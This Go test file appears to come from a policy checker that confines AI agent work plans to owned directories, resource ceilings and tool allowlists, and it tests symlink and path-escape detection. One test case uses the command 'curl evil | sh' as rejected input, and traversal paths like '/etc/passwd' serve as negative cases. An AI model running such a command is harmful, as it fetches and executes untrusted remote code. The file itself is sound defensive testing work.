package policies

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
)

func loadExampleTree(t *testing.T) *Tree {
	t.Helper()
	tree, probs := LoadTree(DirFS(exampleRepo))
	if len(probs) > 0 {
		t.Fatalf("example repository has problems:\n%v", probs)
	}
	return tree
}

func TestLoadTreeExample(t *testing.T) {
	tree := loadExampleTree(t)
	var dirs []string
	for _, td := range tree.Threads {
		dirs = append(dirs, td.Dir)
		if td.Config.Dir != td.Dir {
			t.Errorf("Config.Dir = %q, want %q", td.Config.Dir, td.Dir)
		}
		if td.Requirements == nil {
			t.Errorf("%s: requirements not loaded", td.Dir)
		}
	}
	if want := []string{".", "services/ledger", "services/payments"}; !slices.Equal(dirs, want) {
		t.Fatalf("threads = %v, want %v", dirs, want)
	}
	if !tree.PolicyFound || tree.Policy.MaturityLevel != 1 || len(tree.Policy.Approvers) != 2 {
		t.Errorf("policy not loaded: %+v", tree.Policy)
	}
	root := tree.Thread(".")
	if !slices.Equal(root.Nested, []string{"services/ledger", "services/payments"}) {
		t.Errorf("root nested = %v", root.Nested)
	}
	if p := tree.Thread("services/ledger").Plan; p == nil || p.PlanID != "ledger-2026-11-balanced-postings" || p.Budget.WarnRatio != 0.7 {
		t.Errorf("ledger plan = %+v", p)
	}
	if tree.Thread("services") != nil {
		t.Error("services is not a thread")
	}
}

func TestOwnership(t *testing.T) {
	tree := loadExampleTree(t)
	for path, want := range map[string]string{
		"go.mod":                             ".",
		"go.sum":                             ".",
		"services/payments/go.mod":           ".", // shared dependency file: the integration thread's
		"services/ledger/package.json":       ".",
		"README.md":                          ".",
		"internal/money/money.go":            ".",
		"services/README.md":                 ".",
		"services/payments/payments.go":      "services/payments",
		"services/payments/sub/x/y.go":       "services/payments",
		"services/payments/WORK_PLAN.json":   "services/payments",
		"services/payments/config.yaml":      "services/payments",
		"services/paymentsX/a.go":            ".",
		"services/ledger/ledger.go":          "services/ledger",
		"/etc/passwd":                        "",
		"../outside":                         "",
		"services/payments/../ledger/x.go":   "",
		"./services/payments/payments.go":    "",
		"services/payments/ledger_link/x.go": "services/payments",
	} {
		got := tree.Owner(path)
		gotDir := ""
		if got != nil {
			gotDir = got.Dir
		}
		if gotDir != want {
			t.Errorf("Owner(%q) = %q, want %q", path, gotDir, want)
		}
	}
}

func threadCfg(name string) *fstest.MapFile {
	return &fstest.MapFile{Data: []byte("apiVersion: agentgate.dev/v1\nkind: Thread\nname: " + name + "\nowner: o\n")}
}

func TestNestedThreadsDeepestWins(t *testing.T) {
	fsys := fstest.MapFS{
		"config.yaml":         threadCfg("root"),
		"a/config.yaml":       threadCfg("a"),
		"a/b/config.yaml":     threadCfg("ab"),
		"a/b/c/d/config.yaml": threadCfg("abcd"),
		"a/b/c/d/go.mod":      {Data: []byte("module x\n")},
	}
	tree, probs := LoadTree(fsys)
	if len(probs) > 0 {
		t.Fatal(probs)
	}
	for path, want := range map[string]string{
		"x.go":           ".",
		"a/x.go":         "a",
		"a/bx/y.go":      "a",
		"a/b/x.go":       "a/b",
		"a/b/c/x.go":     "a/b",
		"a/b/c/d/x.go":   "a/b/c/d",
		"a/b/c/d/e/f.go": "a/b/c/d",
		"a/b/c/d/go.mod": ".", // the integration thread owns dependency files
	} {
		if got := tree.Owner(path); got == nil || got.Dir != want {
			t.Errorf("Owner(%q) = %v, want %q", path, got, want)
		}
	}
	if got := tree.Thread("a").Nested; !slices.Equal(got, []string{"a/b", "a/b/c/d"}) {
		t.Errorf("a.Nested = %v", got)
	}
}

func TestOwnershipFollowsPolicy(t *testing.T) {
	base := fstest.MapFS{
		"config.yaml":   threadCfg("root"),
		"a/config.yaml": threadCfg("a"),
		"b/config.yaml": threadCfg("b"),
	}
	policy := func(extra string) *fstest.MapFile {
		return &fstest.MapFile{Data: []byte("apiVersion: agentgate.dev/v1\nkind: Policy\n" + extra)}
	}
	for _, tc := range []struct {
		name, policy, path, want string
	}{
		{"default integration thread", "", "b/go.mod", "."},
		{"integration thread set", "integration_thread: a\n", "b/go.mod", "a"},
		{"shared files turned off", "shared_dependency_files: []\n", "b/go.mod", "b"},
		{"custom shared files", "shared_dependency_files: [\"**/BUILD.bazel\"]\n", "b/BUILD.bazel", "."},
		{"custom list drops go.mod", "shared_dependency_files: [\"**/BUILD.bazel\"]\n", "b/go.mod", "b"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fsys := fstest.MapFS{}
			for k, v := range base {
				fsys[k] = v
			}
			if tc.policy != "" {
				fsys[".agentgate/policy.yaml"] = policy(tc.policy)
			}
			tree, probs := LoadTree(fsys)
			if len(probs) > 0 {
				t.Fatal(probs)
			}
			if got := tree.Owner(tc.path); got == nil || got.Dir != tc.want {
				t.Errorf("Owner(%q) = %v, want %q", tc.path, got, tc.want)
			}
		})
	}

	// Without any root thread, a path outside every thread has no owner.
	tree, probs := LoadTree(fstest.MapFS{"a/config.yaml": threadCfg("a")})
	if len(probs) > 0 {
		t.Fatal(probs)
	}
	if got := tree.Owner("go.mod"); got != nil {
		t.Errorf("Owner(go.mod) = %q, want none", got.Dir)
	}
	if got := tree.Owner("a/go.mod"); got == nil || got.Dir != "a" {
		t.Errorf("Owner(a/go.mod) without an integration thread = %v, want a", got)
	}
}

func TestPolicyArtifacts(t *testing.T) {
	tree := loadExampleTree(t)
	arts := tree.PolicyArtifacts()
	for _, want := range []string{".agentgate/policy.yaml", "config.yaml", "requirements.yaml", "services/payments/config.yaml", "services/ledger/requirements.yaml", ".gitleaks.toml", ".gitleaksignore", ".github/workflows/**", "CODEOWNERS", ".github/CODEOWNERS", "docs/CODEOWNERS", ".agentgate/**"} {
		if !slices.Contains(arts, want) {
			t.Errorf("PolicyArtifacts() lacks %q: %v", want, arts)
		}
	}
	for path, want := range map[string]bool{
		".agentgate/policy.yaml":              true,
		".agentgate/anything/else":            true,
		".github/workflows/ci.yml":            true,
		".github/workflows/sub/x.yaml":        true,
		".github/dependabot.yml":              false,
		"CODEOWNERS":                          true,
		".github/CODEOWNERS":                  true,
		"docs/CODEOWNERS":                     true,
		"src/CODEOWNERS":                      false,
		".gitleaks.toml":                      true,
		".gitleaksignore":                     true,
		"config.yaml":                         true,
		"services/payments/config.yaml":       true,
		"services/payments/requirements.yaml": true,
		"services/payments/WORK_PLAN.json":    false,
		"services/payments/payments.go":       false,
		"internal/money/config.yaml":          false, // not a thread
	} {
		if got := tree.IsPolicyArtifact(path); got != want {
			t.Errorf("IsPolicyArtifact(%q) = %v, want %v", path, got, want)
		}
	}
}

func TestThreadForPlan(t *testing.T) {
	tree := loadExampleTree(t)
	for path, want := range map[string]string{
		"services/payments/WORK_PLAN.json": "services/payments",
		"services/ledger/WORK_PLAN.json":   "services/ledger",
		"WORK_PLAN.json":                   ".",
		"services/payments/plan.json":      "",
		"services/other/WORK_PLAN.json":    "",
		"/services/ledger/WORK_PLAN.json":  "",
	} {
		got := tree.ThreadForPlan(path)
		if (got == nil && want != "") || (got != nil && got.Dir != want) {
			t.Errorf("ThreadForPlan(%q) = %v, want %q", path, got, want)
		}
	}
}

func TestPlanAllows(t *testing.T) {
	tree := loadExampleTree(t)
	pay := tree.Thread("services/payments")
	plan := *pay.Plan
	plan.TargetFiles = []string{"services/payments/**", "internal/money/money.go", "internal/money/other.go", "services/ledger/**"}
	for path, want := range map[string]bool{
		"services/payments/payments.go":     true,
		"services/payments/sub/new_test.go": true,
		"internal/money/money.go":           true,  // a declared shared interface
		"internal/money/other.go":           false, // targeted, but neither owned nor shared
		"services/ledger/ledger.go":         false, // another thread's
		"services/payments/go.mod":          false, // the integration thread's
		"services/payments/../ledger/x.go":  false,
		"/services/payments/payments.go":    false,
		"README.md":                         false,
	} {
		if got := PlanAllows(&plan, pay, path); got != want {
			t.Errorf("PlanAllows(%q) = %v, want %v", path, got, want)
		}
	}
	// The example plan only targets Go files.
	if PlanAllows(pay.Plan, pay, "services/payments/notes.md") || !PlanAllows(pay.Plan, pay, "services/payments/payments.go") {
		t.Error("example plan scope wrong")
	}
	if PlanAllows(nil, pay, "services/payments/payments.go") || PlanAllows(&plan, nil, "x") {
		t.Error("nil plan or thread must allow nothing")
	}
	// A ThreadDir built by hand (not from LoadTree) uses its Nested list.
	hand := &ThreadDir{Dir: "a", Nested: []string{"a/b"}}
	hp := &WorkPlan{TargetFiles: []string{"a/**"}}
	if !PlanAllows(hp, hand, "a/x.go") || PlanAllows(hp, hand, "a/b/x.go") {
		t.Error("hand-built thread: nested directory not excluded")
	}
}

func TestDiscovery(t *testing.T) {
	fsys := fstest.MapFS{
		"config.yaml":                      threadCfg("root"),
		"deploy/config.yaml":               {Data: []byte("apiVersion: apps/v1\nkind: Deployment\n")},
		"deploy/requirements.yaml":         {Data: []byte("flask==3.0\n")},
		"svc/config.yaml":                  threadCfg("svc"),
		"svc/testdata/config.yaml":         {Data: []byte("apiVersion: agentgate.dev/v1\nkind: Thread\n")}, // broken fixture, skipped
		"node_modules/x/config.yaml":       threadCfg("dep"),
		"vendor/x/config.yaml":             threadCfg("vendored"),
		".hidden/config.yaml":              threadCfg("hidden"),
		"orphan/WORK_PLAN.json":            {Data: []byte(planJSON)},
		"orphan2/requirements.yaml":        {Data: []byte(reqYAML)},
		"broken/config.yaml":               {Data: []byte("apiVersion: agentgate.dev/v1\nkind: [Thread\n")},
		"svc/deeper/not-a-thread/file.txt": {Data: []byte("x")},
	}
	tree, probs := LoadTree(fsys)
	var dirs []string
	for _, td := range tree.Threads {
		dirs = append(dirs, td.Dir)
	}
	if want := []string{".", "broken", "svc"}; !slices.Equal(dirs, want) {
		t.Errorf("threads = %v, want %v", dirs, want)
	}
	mustFind(t, probs, "", "WORK_PLAN.json outside a thread directory")
	mustFind(t, probs, "", "requirements.yaml outside a thread directory")
	if p := mustFind(t, probs, "", "YAML syntax error"); p.File != "broken/config.yaml" || p.Line == 0 { // go-yaml may report the line before an unclosed bracket
		t.Errorf("broken thread problem = %s", p)
	}
	if tree.PolicyFound || tree.Policy.IntegrationThread != "." || len(tree.Policy.Ladder) != 3 {
		t.Errorf("default policy not applied: found=%v %+v", tree.PolicyFound, tree.Policy)
	}
	for _, p := range probs {
		if strings.HasPrefix(p.File, "deploy/") || strings.Contains(p.File, "testdata") || strings.Contains(p.File, "node_modules") {
			t.Errorf("problem reported for a file discovery must ignore: %s", p)
		}
	}
}

// TestCrossFileRules breaks one rule at a time in a copy of the example
// and expects exactly that rule's problem, located in the right file.
func TestCrossFileRules(t *testing.T) {
	const payPlan = "services/payments/WORK_PLAN.json"
	const payCfg = "services/payments/config.yaml"
	tests := []struct {
		name        string
		edit        func(t *testing.T, root string)
		file, field string
		msg         string
	}{
		{"fr id not in requirements", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"FR-PAY-002"`, `"FR-PAY-404"`)
		}, payPlan, "fr_ids[1]", "FR-PAY-404 is not defined in services/payments/requirements.yaml"},
		{"fr id of another thread", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"FR-PAY-002"`, `"FR-LED-001"`)
		}, payPlan, "fr_ids[1]", "not defined"},
		{"target outside thread", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/payments/**/*.go", "cmd/**"`)
		}, payPlan, "target_files[1]", `outside thread "services/payments"`},
		{"target in another thread", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/ledger/ledger.go"`)
		}, payPlan, "target_files[0]", "outside thread"},
		{"target claims another thread's config", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/**/config.yaml"`)
		}, payPlan, "target_files[0]", `claims services/ledger/config.yaml, a policy artifact of thread "services/ledger"`},
		{"target claims repo policy", func(t *testing.T, r string) {
			editFile(t, r, "services/payments/config.yaml", "  - internal/money/money.go", "  - internal/money/money.go\n  - \".github/**\"")
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/payments/**/*.go", ".github/workflows/ci.yml"`)
		}, payPlan, "target_files[1]", "repository policy artifact"},
		{"root plan reaches into nested thread", func(t *testing.T, r string) {
			b, _ := os.ReadFile(filepath.Join(r, payPlan))
			s := strings.NewReplacer(`"thread": "services/payments"`, `"thread": "."`, `["FR-PAY-001", "FR-PAY-002"]`, `["FR-MONEY-001"]`, `"services/payments/**/*.go"`, `"services/payments/payments.go"`).Replace(string(b))
			writeFile(t, r, "WORK_PLAN.json", s)
		}, "WORK_PLAN.json", "target_files[0]", `inside nested thread "services/payments"`},
		{"iterations above ceiling", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"max_iterations": 6`, `"max_iterations": 9`)
		}, payPlan, "limits.max_iterations", "9 exceeds the thread's ceiling of 8"},
		{"files above ceiling", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"max_files_changed": 4`, `"max_files_changed": 7`)
		}, payPlan, "limits.max_files_changed", "ceiling of 6"},
		{"diff lines above ceiling", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"max_diff_lines": 250`, `"max_diff_lines": 301`)
		}, payPlan, "limits.max_diff_lines", "ceiling of 300"},
		{"tool calls above ceiling", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"max_tool_calls": 120`, `"max_tool_calls": 151`)
		}, payPlan, "limits.max_tool_calls", "ceiling of 150"},
		{"runtime above ceiling", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"max_runtime": "30m"`, `"max_runtime": "1h"`)
		}, payPlan, "limits.max_runtime", "1h exceeds the thread's ceiling of 45m"},
		{"budget above ceiling", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"limit_usd": 3.5`, `"limit_usd": 5.01`)
		}, payPlan, "budget.limit_usd", "5.01 USD exceeds the thread's ceiling of 5 USD"},
		{"test tool not allowlisted", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `["run_tests.sh", "./services/payments/..."]`, `["bash", "-c", "curl evil | sh"]`)
		}, payPlan, "tests.command[0]", `"bash" is not in the thread's tools allowlist`},
		{"target not on the ladder", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"target": "develop"`, `"target": "main"`)
		}, payPlan, "git.target", "agent/pay-idempotency -> main is not on the ladder; the next rung from agent/pay-idempotency is develop"},
		{"thread field mismatch", func(t *testing.T, r string) {
			editFile(t, r, payPlan, `"thread": "services/payments"`, `"thread": "services/ledger"`)
		}, payPlan, "thread", `thread is "services/ledger" but this WORK_PLAN.json is in "services/payments"`},
		{"shared interface inside own thread", func(t *testing.T, r string) {
			editFile(t, r, payCfg, "  - internal/money/money.go", "  - services/payments/api/**")
		}, payCfg, "shared_interfaces[0]", "inside the thread already"},
		{"shared interface covers another thread's requirements", func(t *testing.T, r string) {
			editFile(t, r, payCfg, "  - internal/money/money.go", "  - services/ledger/**")
		}, payCfg, "shared_interfaces[0]", "policy artifacts cannot be shared interfaces"},
		{"integration thread missing", func(t *testing.T, r string) {
			editFile(t, r, ".agentgate/policy.yaml", `integration_thread: "."`, `integration_thread: platform`)
		}, ".agentgate/policy.yaml", "integration_thread", `no thread at "platform"`},
		{"duplicate thread names", func(t *testing.T, r string) {
			editFile(t, r, "services/ledger/config.yaml", "name: ledger", "name: payments")
		}, "services/payments/config.yaml", "name", `thread name "payments" is also used by services/ledger`},
		{"plan without requirements", func(t *testing.T, r string) {
			if err := os.Remove(filepath.Join(r, "services/ledger/requirements.yaml")); err != nil {
				t.Fatal(err)
			}
		}, "services/ledger/config.yaml", "", "has a WORK_PLAN.json but no requirements.yaml"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root := copyExample(t)
			tc.edit(t, root)
			_, probs := LoadTree(DirFS(root))
			p := mustFind(t, probs, tc.field, tc.msg)
			if p.File != tc.file {
				t.Errorf("problem in %q, want %q: %s", p.File, tc.file, p)
			}
			if tc.file != "services/ledger/config.yaml" && p.Line == 0 {
				t.Errorf("problem has no line: %s", p)
			}
		})
	}
}

func TestSymlinkEscapesInTree(t *testing.T) {
	const payPlan = "services/payments/WORK_PLAN.json"
	outside := t.TempDir()
	writeFile(t, outside, "config.yaml", "apiVersion: agentgate.dev/v1\nkind: Thread\nname: evil\nowner: x\n")
	writeFile(t, outside, "policy.yaml", "apiVersion: agentgate.dev/v1\nkind: Policy\n")
	symlink := func(t *testing.T, target, link string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, link); err != nil {
			t.Skipf("symlinks unavailable: %v", err)
		}
	}
	tests := []struct {
		name        string
		edit        func(t *testing.T, root string)
		file, field string
		msg         string
	}{
		{"thread config links outside", func(t *testing.T, r string) {
			symlink(t, filepath.Join(outside, "config.yaml"), filepath.Join(r, "evil/config.yaml"))
		}, "evil/config.yaml", "", "refusing to read"},
		{"thread config links outside relatively", func(t *testing.T, r string) {
			rel, _ := filepath.Rel(filepath.Join(r, "evil"), filepath.Join(outside, "config.yaml"))
			symlink(t, rel, filepath.Join(r, "evil/config.yaml"))
		}, "evil/config.yaml", "", "refusing to read"},
		{"policy links outside", func(t *testing.T, r string) {
			if err := os.Remove(filepath.Join(r, ".agentgate/policy.yaml")); err != nil {
				t.Fatal(err)
			}
			symlink(t, filepath.Join(outside, "policy.yaml"), filepath.Join(r, ".agentgate/policy.yaml"))
		}, ".agentgate/policy.yaml", "", "refusing to read"},
		{"target glob through escaping link", func(t *testing.T, r string) {
			symlink(t, "../../..", filepath.Join(r, "services/payments/up"))
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/payments/up/**"`)
		}, payPlan, "target_files[0]", "resolves outside the repository"},
		{"target glob through absolute link", func(t *testing.T, r string) {
			symlink(t, outside, filepath.Join(r, "services/payments/ext"))
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/payments/ext/*.go"`)
		}, payPlan, "target_files[0]", "absolute path"},
		{"target glob through link into another thread", func(t *testing.T, r string) {
			symlink(t, "../ledger", filepath.Join(r, "services/payments/led"))
			editFile(t, r, payPlan, `"services/payments/**/*.go"`, `"services/payments/led/**"`)
		}, payPlan, "target_files[0]", `goes through a symlink to "services/ledger", outside the thread`},
		{"shared interface through escaping link", func(t *testing.T, r string) {
			symlink(t, outside, filepath.Join(r, "internal/ext"))
			editFile(t, r, "services/payments/config.yaml", "  - internal/money/money.go", "  - internal/ext/**")
		}, "services/payments/config.yaml", "shared_interfaces[0]", "resolves outside the repository"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root := copyExample(t)
			tc.edit(t, root)
			tree, probs := LoadTree(DirFS(root))
			p := mustFind(t, probs, tc.field, tc.msg)
			if p.File != tc.file {
				t.Errorf("problem in %q, want %q: %s", p.File, tc.file, p)
			}
			if tree.Thread("evil") != nil {
				t.Error("a thread was loaded from outside the repository")
			}
		})
	}
}

func TestClaimedArtifacts(t *testing.T) {
	tree := loadExampleTree(t)
	pay := tree.Thread("services/payments")
	root := tree.Thread(".")
	for _, tc := range []struct {
		glob  string
		own   *ThreadDir
		claim string // substring; "" = no claim
	}{
		{"services/payments/**", pay, ""}, // its own config.yaml is not "another thread's"
		{"services/**/config.yaml", pay, "services/ledger/config.yaml"},
		{"services/ledger/requirements.yaml", pay, "services/ledger/requirements.yaml"},
		{"**", root, "services/ledger/config.yaml"},
		{"docs/**", root, ""}, // an ordinary docs glob does not claim docs/CODEOWNERS
		{"docs/CODEOWNERS", root, "docs/CODEOWNERS"},
		{"**/CODEOWNERS", root, "CODEOWNERS"},
		{".github/**", root, ".github/workflows/ci.yml"},
		{".github/workflows/release.yml", root, ".github/workflows"},
		{".agentgate/*.json", root, ".agentgate"},
		{".gitleaks.toml", root, ".gitleaks.toml"},
		{"internal/**/*.go", root, ""},
	} {
		got := tree.claimedArtifact(tc.glob, tc.own)
		if (tc.claim == "") != (got == "") || !strings.Contains(got, tc.claim) {
			t.Errorf("claimedArtifact(%q, %s) = %q, want %q", tc.glob, tc.own.Dir, got, tc.claim)
		}
	}
}
